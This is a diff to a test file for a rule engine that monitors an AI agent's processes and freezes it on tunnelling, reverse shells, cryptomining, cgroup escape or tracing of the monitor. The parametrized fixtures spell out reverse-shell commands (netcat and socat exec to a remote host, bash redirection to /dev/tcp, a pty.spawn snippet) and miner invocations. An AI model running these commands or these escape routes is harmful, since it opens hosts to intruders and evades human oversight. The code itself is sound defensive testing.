@@ -49,31 +49,36 @@ def run(engine: RuleEngine, argv: list[str], exe: str, pid: int = 200) -> list[s
 def test_every_rule_is_complete(ruleset):
     infos = list_rules(ruleset)
     assert [i.id for i in infos] == [
-        "ssh_port_forwarding", "tunnel_tool_started", "cloudflared_tunnel", "netcat_exec", "netcat_listener",
+        "ssh_port_forwarding", "tunnel_tool_started", "tunnel_tool_reaches_outside",
+        "cloudflared_tunnel", "netcat_exec_started", "netcat_exec", "netcat_listener", "socat_relay_started",
         "socat_relay", "shell_network_redirection", "interpreter_reverse_shell", "shell_with_network_stdio",
-        "shell_outbound_connection", "interactive_session_outside_allowlist", "ssh_protocol_outside_allowlist",
-        "proxy_connect_to_session_or_pool_port", "ssh_through_http_proxy", "miner_binary_started", "miner_exec_denied",
-        "miner_arguments",
-        "mining_pool_connection", "stratum_protocol", "gpu_miner_staged_from_writable_dir", "gpu_use_not_allowed",
+        "shell_with_local_network_stdio", "shell_outbound_connection", "interactive_session_outside_allowlist",
+        "ssh_protocol_outside_allowlist", "proxy_connect_to_session_or_pool_port", "ssh_through_http_proxy",
+        "miner_binary_started", "miner_exec_denied", "miner_arguments", "mining_pool_connection", "stratum_protocol",
+        "gpu_miner_staged_from_writable_dir", "gpu_use_not_allowed",
         "cuda_context_from_temp_dir", "gpu_sustained_use_not_allowed", "gpu_busy_not_allowed",
         "internal_network_probing", "connection_sweep",
         "egress_outside_allowlist", "agent_left_its_cgroup", "fileless_exec", "raw_socket_opened", "icmp_tunnel",
         "dns_to_unexpected_server", "dns_tunnel_query", "dns_tunnel_many_names", "icmp_tunnel_by_rate",
-        "ssh_wrapped_in_tls", "http_tunnel_client", "agent_listens_outside_loopback", "session_through_local_tunnel",
-        "events_lost", "events_lost_unattributed", "monitor_traced", "monitor_traced_by_host"]
+        "ssh_wrapped_in_tls", "ssh_tls_wrapper_started", "http_tunnel_client", "agent_listens_outside_loopback",
+        "session_through_local_tunnel", "events_lost", "events_lost_unattributed", "monitor_traced",
+        "monitor_traced_by_host"]
     for i in infos:
         assert i.desc and i.name != i.id and i.priority in PRIORITIES and i.action in ACTIONS
         assert i.mitre and all(ATTACK_ID.match(t) for t in i.mitre)
     assert [i.id for i in infos if not i.enabled] == ["egress_outside_allowlist"]
     assert {i.id for i in infos if i.action == "freeze"} == {
-        "ssh_port_forwarding", "tunnel_tool_started", "cloudflared_tunnel", "netcat_exec", "socat_relay",
-        "shell_network_redirection", "interpreter_reverse_shell", "interactive_session_outside_allowlist",
-        "miner_binary_started", "miner_arguments", "mining_pool_connection", "gpu_miner_staged_from_writable_dir",
-        "ssh_protocol_outside_allowlist", "proxy_connect_to_session_or_pool_port", "stratum_protocol",
-        "miner_exec_denied", "agent_left_its_cgroup", "icmp_tunnel", "dns_tunnel_query",
+        "ssh_port_forwarding", "tunnel_tool_reaches_outside", "cloudflared_tunnel", "netcat_exec", "socat_relay",
+        "interactive_session_outside_allowlist", "miner_binary_started", "miner_arguments", "mining_pool_connection",
+        "gpu_miner_staged_from_writable_dir", "ssh_protocol_outside_allowlist", "proxy_connect_to_session_or_pool_port",
+        "stratum_protocol", "miner_exec_denied", "agent_left_its_cgroup", "icmp_tunnel", "dns_tunnel_query",
         "shell_with_network_stdio", "shell_outbound_connection",
         "session_through_local_tunnel", "icmp_tunnel_by_rate", "ssh_wrapped_in_tls", "http_tunnel_client",
         "ssh_through_http_proxy", "monitor_traced"}
+    # text alone alerts at a lower priority, never freezes
+    text_rules = {"shell_network_redirection", "interpreter_reverse_shell"}
+    assert {(i.id, i.action) for i in infos if i.id in text_rules} == {(r, "alert") for r in text_rules}
+    assert all(i.priority in ("medium", "low") for i in infos if i.id in text_rules)
 
 
 def test_default_file_is_package_data():
@@ -104,14 +109,27 @@ def test_default_file_is_package_data():
     ["dbclient", "-R", "9000:localhost:22", "jump"],
 ])
 def test_ssh_forwarding_in_any_spelling(engine, argv):
-    assert run(engine, argv, "/usr/bin/" + argv[0]) == ["ssh_port_forwarding"]
+    """Started: where it goes is not known yet; its connect outside allowed_networks: the freeze (before the
+    handshake)."""
+    p = AGENT.child(200, "/usr/bin/" + argv[0], cmdline=argv)
+    assert alerts(engine, exec_record(p, argv)) == []
+    fired = engine.process(connect_record(p, "203.0.113.5", 22))
+    assert [(a["rule"], a["action"]) for a in fired][0] == ("ssh_port_forwarding", "freeze")
+
+
+@pytest.mark.parametrize("dest", ["127.0.0.1", "::1"])
+def test_ssh_forwarding_to_loopback_is_no_tunnel_out(engine, dest):
+    p = AGENT.child(201, "/usr/bin/ssh", cmdline=["ssh", "-N", "-R", "9000:localhost:22", "git@localhost"])
+    assert alerts(engine, exec_record(p, p.cmdline)) == []
+    assert alerts(engine, connect_record(p, dest, 22)) == []
 
 
 def test_ssh_forwarding_by_renamed_client_started_as_ssh(engine):
     # /tmp/x is a copy of ssh, started with argv[0] "ssh"; its sha256 is ssh's
-    p = AGENT.child(200, "/tmp/x")
+    p = AGENT.child(200, "/tmp/x", cmdline=["x", "-R", "9000:localhost:22", "jump"])
     p.sha256 = SSH_SHA
-    assert alerts(engine, exec_record(p, ["x", "-R", "9000:localhost:22", "jump"])) == ["ssh_port_forwarding"]
+    assert alerts(engine, exec_record(p, p.cmdline)) == []
+    assert alerts(engine, connect_record(p, "203.0.113.5", 2222)) == ["ssh_port_forwarding"]
 
 
 @pytest.mark.parametrize("argv", [
@@ -191,7 +209,7 @@ def test_interactive_session_allowlist_is_a_list(tmp_path):
 
 # ------------------------------------------------------------------ other tunnels and shells
 @pytest.mark.parametrize("argv, expected", [
-    (["autossh", "-M", "0", "-N", "-R", "9000:localhost:22", "jump"], ["tunnel_tool_started"]),
+    (["autossh", "-M", "0", "-N", "-R", "9000:localhost:22", "jump"], ["tunnel_tool_started"]),  # alerts at exec
     (["sshuttle", "-r", "user@jump", "0/0"], ["tunnel_tool_started"]),
     (["chisel", "client", "203.0.113.5:8080", "R:socks"], ["tunnel_tool_started"]),
     (["frpc", "-c", "frpc.toml"], ["tunnel_tool_started"]),
@@ -203,33 +221,55 @@ def test_interactive_session_allowlist_is_a_list(tmp_path):
     (["dns2tcpc", "-z", "t.example.org"], ["tunnel_tool_started"]),
     (["ptunnel", "-p", "203.0.113.5"], ["tunnel_tool_started"]),
     (["stunnel", "stunnel.conf"], ["tunnel_tool_started"]),
-    (["cloudflared", "tunnel", "run", "mytunnel"], ["cloudflared_tunnel"]),
-    (["cloudflared", "tunnel", "--url", "http://localhost:8000"], ["cloudflared_tunnel"]),
-    (["cloudflared", "access", "tcp", "--hostname", "h", "--url", "localhost:2222"], ["cloudflared_tunnel"]),
+    (["cloudflared", "tunnel", "run", "mytunnel"], []),
+    (["cloudflared", "tunnel", "--url", "http://localhost:8000"], []),
+    (["cloudflared", "access", "tcp", "--hostname", "h", "--url", "localhost:2222"], []),
     (["cloudflared", "--version"], []),
-    (["nc", "-e", "/bin/sh", "203.0.113.5", "4444"], ["netcat_exec"]),
-    (["nc", "203.0.113.5", "4444", "-e", "/bin/bash"], ["netcat_exec"]),
-    (["nc", "-c", "bash", "203.0.113.5", "4444"], ["netcat_exec"]),
-    (["ncat", "--sh-exec", "bash -i", "203.0.113.5", "4444"], ["netcat_exec"]),
-    (["ncat", "--exec=/bin/bash", "203.0.113.5", "4444"], ["netcat_exec"]),
-    (["ncat", "--sh-ex", "sh", "203.0.113.5", "4444"], ["netcat_exec"]),      # getopt_long abbreviation
-    (["ncat", "-lvnp4444", "-e/bin/sh"], ["netcat_exec", "netcat_listener"]),
+    (["nc", "-e", "/bin/sh", "203.0.113.5", "4444"], ["netcat_exec_started"]),
+    (["nc", "203.0.113.5", "4444", "-e", "/bin/bash"], ["netcat_exec_started"]),
+    (["nc", "-c", "bash", "203.0.113.5", "4444"], ["netcat_exec_started"]),
+    (["ncat", "--sh-exec", "bash -i", "203.0.113.5", "4444"], ["netcat_exec_started"]),
+    (["ncat", "--exec=/bin/bash", "203.0.113.5", "4444"], ["netcat_exec_started"]),
+    (["ncat", "--sh-ex", "sh", "203.0.113.5", "4444"], ["netcat_exec_started"]),      # getopt_long abbreviation
+    (["ncat", "-lvnp4444", "-e/bin/sh"], ["netcat_exec_started", "netcat_listener"]),
     (["nc", "-lvnp", "4444"], ["netcat_listener"]),
     (["netcat", "-l", "-p", "8080"], ["netcat_listener"]),
     (["ncat", "--listen", "8080", "--keep-open"], ["netcat_listener"]),
     (["nc", "-z", "-w", "1", "127.0.0.1", "8080"], []),
     (["nc", "-p", "1234", "-w", "e", "127.0.0.1", "80"], []),              # 'e' is -w's value
     (["nc", "-vz", "localhost", "22"], []),
-    (["socat", "TCP:203.0.113.5:4444", "EXEC:/bin/bash,pty,stderr"], ["socat_relay"]),
-    (["socat", "tcp-connect:203.0.113.5:4444", "system:bash"], ["socat_relay"]),
-    (["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:10.0.0.5:80"], ["socat_relay"]),
-    (["socat", "-d", "-d", "TCP4-LISTEN:2222,fork", "TCP4:203.0.113.5:22"], ["socat_relay"]),
-    (["socat", "OPENSSL:203.0.113.5:443,verify=0", "EXEC:sh"], ["socat_relay"]),
+    (["socat", "TCP:203.0.113.5:4444", "EXEC:/bin/bash,pty,stderr"], ["socat_relay_started"]),
+    (["socat", "tcp-connect:203.0.113.5:4444", "system:bash"], ["socat_relay_started"]),
+    (["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:10.0.0.5:80"], ["socat_relay_started"]),
+    (["socat", "-d", "-d", "TCP4-LISTEN:2222,fork", "TCP4:203.0.113.5:22"], ["socat_relay_started"]),
+    (["socat", "OPENSSL:203.0.113.5:443,verify=0", "EXEC:sh"], ["socat_relay_started"]),
     (["socat", "-", "UNIX-CONNECT:/var/run/docker.sock"], []),
     (["socat", "STDIO", "TCP:127.0.0.1:8000"], []),
 ])
 def test_tunnel_tools_and_relays(engine, argv, expected):
     assert run(engine, argv, "/usr/bin/" + argv[0]) == expected
+
+
+@pytest.mark.parametrize("argv, freeze", [
+    (["chisel", "client", "203.0.113.5:8080", "R:socks"], "tunnel_tool_reaches_outside"),
+    (["cloudflared", "tunnel", "run", "mytunnel"], "cloudflared_tunnel"),
+    (["nc", "-e", "/bin/sh", "203.0.113.5", "4444"], "netcat_exec"),
+    (["ncat", "--sh-exec", "bash -i", "203.0.113.5", "4444"], "netcat_exec"),
+    (["socat", "TCP:203.0.113.5:4444", "EXEC:/bin/bash,pty,stderr"], "socat_relay"),
+    (["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:203.0.113.6:80"], "socat_relay"),
+])
+def test_tunnels_and_relays_freeze_where_they_reach_outside_not_on_loopback(engine, argv, freeze):
+    """Where a relay goes decides: the same tool to loopback or an allowed network alerts at most."""
+    p = AGENT.child(210, "/usr/bin/" + argv[0], cmdline=argv)
+    engine.process(exec_record(p, argv))
+    assert alerts(engine, connect_record(p, "127.0.0.1", 8443)) == []
+    fired = engine.process(connect_record(p, "203.0.113.5", 8443))
+    assert [(a["rule"], a["action"]) for a in fired] == [(freeze, "freeze")]
+
+
+def test_a_cloudflared_that_is_not_a_tunnel_is_not_frozen_for_connecting(engine):
+    p = AGENT.child(211, "/usr/bin/cloudflared", cmdline=["cloudflared", "update"])
+    assert alerts(engine, connect_record(p, "203.0.113.5", 443)) == []
 
 
 @pytest.mark.parametrize("argv, expected", [
@@ -569,7 +609,7 @@ def _with_stdio(rec: dict, peer: str = "203.0.113.9", relayed: str | None = None
 @pytest.mark.parametrize("exe, argv, relayed, peer, expected", [
     ("/usr/bin/dash", ["/bin/sh", "-i"], None, "203.0.113.9", True),
     ("/usr/bin/dash", ["/bin/sh"], "pty", "203.0.113.9", True),        # python pty.spawn relays it
-    ("/usr/bin/dash", ["/bin/sh"], None, "127.0.0.1", True),           # loopback too (a local relay)
+    ("/usr/bin/dash", ["/bin/sh"], None, "127.0.0.1", False),          # loopback: judged by where the relay goes
     ("/tmp/x", ["x"], None, "203.0.113.9", True),                      # a renamed shell: stdin itself
     ("/tmp/x", ["x"], "pty", "203.0.113.9", False),                    # relayed to a non-shell: not alone
     ("/usr/bin/perl", ["perl"], "pty", "203.0.113.9", True),
@@ -577,6 +617,13 @@ def _with_stdio(rec: dict, peer: str = "203.0.113.9", relayed: str | None = None
 def test_shell_with_network_stdio(engine, exe, argv, relayed, peer, expected):
     rec = _with_stdio(exec_record(AGENT.child(300, exe), argv), peer, relayed)
     assert ("shell_with_network_stdio" in alerts(engine, rec)) == expected
+
+
+def test_a_shell_whose_terminal_is_a_loopback_socket_is_an_alert_its_relay_decides(engine):
+    rec = _with_stdio(exec_record(AGENT.child(303, "/usr/bin/dash"), ["/bin/sh", "-i"]), "127.0.0.1")
+    fired = engine.process(rec)
+    assert [(a["rule"], a["action"], a["priority"]) for a in fired] == [
+        ("shell_with_local_network_stdio", "alert", "high")]
 
 
 def test_stdio_socket_allowlist_and_plain_stdio(tmp_path, engine):
@@ -625,6 +672,15 @@ def test_renamed_shell_known_by_its_hash(tmp_path, monkeypatch):
 def test_fileless_exec(engine, exe, expected):
     rec = exec_record(AGENT.child(320, exe), ["kworker/0:1"], filename="/dev/fd/3")
     assert ("fileless_exec" in alerts(engine, rec)) == expected
+
+
+def test_docs_name_the_behaviour_every_freeze_rule_freezes_on(ruleset):
+    from pathlib import Path
+
+    doc = (Path(__file__).resolve().parent.parent / "docs" / "rules.md").read_text()
+    section = doc[doc.index("### What each freeze rule freezes on"):doc.index("### Lists sites edit")]
+    named = {line.split("`")[1] for line in section.splitlines() if line.startswith("| `")}
+    assert named == {i.id for i in list_rules(ruleset) if i.action == "freeze"}
 
 
 def test_docs_list_every_default_rule(ruleset):
@@ -679,3 +735,52 @@ def test_an_agent_ptracing_the_watcher_is_frozen_anyone_else_alerted(engine):
                             "it can read and change it")
     (b,) = engine.process(traced(False))
     assert (b["rule"], b["action"], b["priority"]) == ("monitor_traced_by_host", "alert", "critical")
+
+
+# ------------------------------------------------------------------ precision: text is not behaviour
+@pytest.mark.parametrize("argv, exe", [
+    (["bash", "-c", "cd /work && echo 'pool: stratum+tcp://pool.example:3333' > notes.md && git diff"],
+     "/usr/bin/bash"),
+    (["python3", "-c", "print('xmrig --donate-level 1 -a rx/0')"], "/usr/bin/python3.11"),
+    (["sh", "-c", "grep -rn 'xmrig -o stratum+tcp://' docs/ | head"], "/usr/bin/dash"),
+    (["perl", "-ne", "print if /stratum\\+tcp:\\/\\//", "log.txt"], "/usr/bin/perl"),
+    (["node", "-e", "console.log('--donate-level 1 --coin monero')"], "/usr/bin/node"),
+    (["awk", "/stratum\\+tcp/ { n++ } END { print n }", "pools.txt"], "/usr/bin/mawk"),
+    (["sed", "-i", "s|stratum+tcp://old:3333|stratum+tcp://new:3333|", "miner.conf"], "/usr/bin/sed"),
+    (["bash", "-c", "echo > /dev/tcp/127.0.0.1/22"], "/usr/bin/bash"),
+    (["bash", "-c", "until echo > /dev/tcp/localhost/5432; do sleep 1; done"], "/usr/bin/bash"),
+    (["python3", "-c", "import socket,os,pty;print('os.dup2(s.fileno(),0); pty.spawn(/bin/sh)')"],
+     "/usr/bin/python3.11"),
+])
+def test_text_in_code_or_a_text_tool_never_freezes(engine, argv, exe):
+    fired = engine.process(exec_record(AGENT.child(400, exe), argv))
+    assert [a["rule"] for a in fired if a["action"] == "freeze"] == []
+    assert all(a["priority"] in ("medium", "low") for a in fired)
+    if "dup2" not in " ".join(argv):  # only code that reads like a reverse shell is worth an alert
+        assert fired == []
+
+
+@pytest.mark.parametrize("argv, exe", [
+    (["/tmp/x", "-o", "stratum+tcp://pool.example:3333", "--donate-level", "1"], "/tmp/x"),
+    (["python3", "m.py", "-o", "stratum+ssl://pool.example:443"], "/usr/bin/python3.11"),
+    (["python3", "-u", "/tmp/m.py", "--coin", "monero", "-a", "rx/0"], "/usr/bin/python3.11"),
+    (["bash", "/tmp/run.sh", "-o", "stratum+tcp://pool.example:3333"], "/usr/bin/bash"),
+    (["/home/agent/sed", "-o", "stratum+tcp://pool.example:3333"], "/home/agent/sed"),  # a miner named sed
+])
+def test_the_program_that_runs_with_miner_arguments_freezes(engine, argv, exe):
+    assert "miner_arguments" in alerts(engine, exec_record(AGENT.child(401, exe), argv))
+
+
+def test_the_shell_code_is_text_the_miner_it_runs_freezes(engine):
+    shell = AGENT.child(402, "/usr/bin/bash")
+    code = "exec /tmp/kworker -o stratum+tcp://pool.example:3333 --donate-level 1"
+    assert alerts(engine, exec_record(shell, ["bash", "-c", code])) == []
+    miner = shell.child(403, "/tmp/kworker")
+    assert "miner_arguments" in alerts(engine, exec_record(miner, code.split()[1:]))
+
+
+def test_a_shell_connecting_out_freezes_where_its_text_only_alerted(engine):
+    shell = AGENT.child(404, "/usr/bin/bash", cmdline=["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/8443 0>&1"])
+    assert alerts(engine, exec_record(shell, shell.cmdline)) == ["shell_network_redirection"]
+    assert alerts(engine, connect_record(shell, "127.0.0.1", 8443)) == []
+    assert alerts(engine, connect_record(shell, "203.0.113.5", 8443)) == ["shell_outbound_connection"]
